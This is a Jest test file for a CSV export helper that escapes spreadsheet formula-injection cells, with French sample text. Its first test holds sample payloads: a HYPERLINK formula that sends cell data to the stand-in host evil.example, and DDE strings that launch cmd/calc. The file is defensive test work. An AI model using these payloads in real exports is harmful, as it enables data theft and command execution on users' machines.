import { neutraliseCsvCell, spreadsheetCsv } from './spreadsheet-csv';

describe('CSV for spreadsheets', () => {
  it('turns every cell that would start a formula into text (OWASP CSV injection)', () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")',
      '+33 6 12 34 56 78',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '＝1+1',
    ]) {
      expect(neutraliseCsvCell(formula)).toBe(`'${formula}`);
    }
  });

  it('leaves ordinary text, numbers and protected counts as they are', () => {
    for (const text of [
      'On repart moins stressé.',
      '83,3',
      '-3',
      '+4.25',
      '<5',
      '≥5',
      'a=b',
      'mail@cpts.fr',
      '',
    ]) {
      expect(neutraliseCsvCell(text)).toBe(text);
    }
    expect(neutraliseCsvCell(-12)).toBe('-12');
    expect(neutraliseCsvCell(null)).toBe('');
  });

  it('writes the neutralised cells with a byte-order mark, semicolons, CRLF and quotes where needed', () => {
    expect(
      spreadsheetCsv([
        ['Activité', 'Témoignage'],
        ['Pilates; respiration', '=HYPERLINK("x")'],
      ]),
    ).toBe('\ufeffActivité;Témoignage\r\n"Pilates; respiration";"\'=HYPERLINK(""x"")"\r\n');
  });
});
